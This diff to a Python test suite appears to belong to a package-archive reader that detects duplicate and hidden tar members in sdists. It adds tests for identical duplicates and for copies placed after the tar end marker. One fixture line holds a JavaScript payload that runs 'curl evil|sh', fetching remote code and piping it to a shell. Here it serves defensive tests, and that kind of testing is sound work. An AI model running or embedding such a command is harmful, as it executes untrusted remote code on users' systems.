@@ -533,8 +533,29 @@ def test_duplicate_names_keep_the_last_copy_as_extraction_does() -> None:
         b"require('child_process').exec('curl evil|sh')\n"
     ]
     assert skipped(contents) == {
-        "package/index.js": "duplicate member name: an earlier copy, replaced by a later one"
+        "package/index.js": "duplicate member name: an earlier copy with different content, replaced by a later one"
     }
+
+
+def test_identical_duplicates_are_dropped_silently() -> None:
+    # Some real sdists hold their tar twice, one copy after the other.
+    tar = tar_bytes([TarEntry("pkg-1.0/PKG-INFO", b"Name: pkg\n"), TarEntry("pkg-1.0/setup.py", b"x = 1\n")])
+    contents = read(gzip.compress(tar + tar))
+    assert paths(contents) == ["pkg-1.0/PKG-INFO", "pkg-1.0/setup.py"]
+    assert list(skipped(contents)) == [ARCHIVE_NOTE]
+
+
+def test_a_different_copy_after_the_end_marker_does_not_replace_the_installed_one() -> None:
+    first = tar_bytes([TarEntry("pkg-1.0/setup.py", b"installed = True\n")])
+    second = tar_bytes([TarEntry("pkg-1.0/setup.py", b"hidden = True\n"), TarEntry("pkg-1.0/extra.py", b"e")])
+    contents = read(first + second)
+    assert {m.path: m.data for m in contents.members} == {
+        "pkg-1.0/setup.py": b"installed = True\n",
+        "pkg-1.0/extra.py": b"e",
+    }
+    assert skipped(contents)["pkg-1.0/setup.py"] == (
+        "a different copy after the end of the tar archive, not used (installers stop at the end marker)"
+    )
 
 
 def test_non_utf8_member_names() -> None:
